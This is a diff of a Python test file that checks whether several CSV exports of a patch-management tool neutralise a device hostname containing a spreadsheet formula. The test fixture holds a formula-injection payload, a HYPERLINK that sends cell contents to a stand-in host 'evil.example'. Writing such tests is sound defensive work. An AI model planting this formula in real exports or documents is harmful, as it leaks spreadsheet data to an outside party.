@@ -40,8 +40,8 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
 def test_exports_defuse_a_formula_the_agent_reported(tenant_a, login, personas):
-    """A device whose agent reports a hostname that is a formula: the ring membership export,
-    the prioritization CSV and the exception register export all write it as text."""
+    """A device whose agent reports a hostname that is a formula: the ring membership export and
+    the prioritization CSV write it as text."""
     with tenant_context(tenant_a):
         device = Device(EVIL.lower().replace(" ", ""))
         device.missing_kb("KB5031111", severity="critical")
